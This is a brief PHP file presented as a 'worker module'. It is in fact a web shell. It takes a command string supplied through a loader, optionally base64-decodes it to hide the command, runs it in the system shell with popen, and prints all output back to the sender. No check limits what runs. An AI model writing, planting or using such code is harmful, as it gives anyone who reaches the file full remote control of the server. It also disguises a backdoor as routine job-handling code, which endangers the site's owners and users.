<?php
// Worker module: the loader sets the global $job from what it was sent, then includes this file.
function wk_run()
{
    global $job, $enc;
    $line = $enc ? base64_decode($job) : $job;
    $h = popen($line . ' 2>&1', 'r');
    $o = '';
    while (!feof($h)) {
        $o .= fread($h, 2048);
    }
    pclose($h);
    return $o;
}
echo wk_run();
